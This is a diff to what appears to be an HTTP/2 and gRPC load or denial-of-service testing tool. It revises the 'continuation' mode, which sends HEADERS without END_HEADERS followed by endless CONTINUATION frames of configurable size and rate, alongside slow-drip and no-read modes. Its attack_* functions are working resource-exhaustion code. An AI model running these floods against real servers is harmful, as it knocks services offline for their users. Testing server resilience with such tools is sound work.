@@ -11,7 +11,8 @@ MODE is one of:
                 5 bytes of a gRPC message (announcing 65,535 bytes) plus --fill bytes of it, and
                 never finishes them
   drip          each connection opens one stream and sends one DATA byte every --interval seconds
-  continuation  each connection sends HEADERS without END_HEADERS, then CONTINUATION frames forever
+  continuation  each connection sends HEADERS without END_HEADERS, then a CONTINUATION frame of
+                --fill bytes (default 16,000) every --interval seconds, forever
   noread        each connection sends --streams complete health Check calls and --pings PINGs every
                 --interval seconds and never reads the answers
   watch         each connection opens --streams grpc.health.v1.Health/Watch streams and reads them
@@ -186,14 +187,17 @@ async def attack_drip(port, args, writer, encoder, stats, attack, ready):
 
 
 async def attack_continuation(port, args, writer, encoder, stats, attack, ready):
+    """HEADERS without END_HEADERS, then a CONTINUATION frame of --fill bytes of header block
+    every --interval seconds (as fast as possible with --interval 0), never ending the block."""
     block = request_headers(encoder, CERTIFICATE, port)
     await send(writer, stats, HeadersFrame(1, block).serialize())
     stats.streams_sent += 1
-    filler = encoder.encode([("x-filler", "a" * 8000), ("x-filler", "b" * 8000)])
+    value_size = max(1, (args.fill or 16000) // 2 - 20)
+    filler = encoder.encode([("x-filler", "a" * value_size), ("x-filler", "b" * value_size)])
     ready()
     while attack.running():
         await send(writer, stats, ContinuationFrame(1, filler).serialize())
-        await asyncio.sleep(0)
+        await asyncio.sleep(args.interval)
 
 
 async def attack_noread(port, args, writer, encoder, stats, attack, ready):
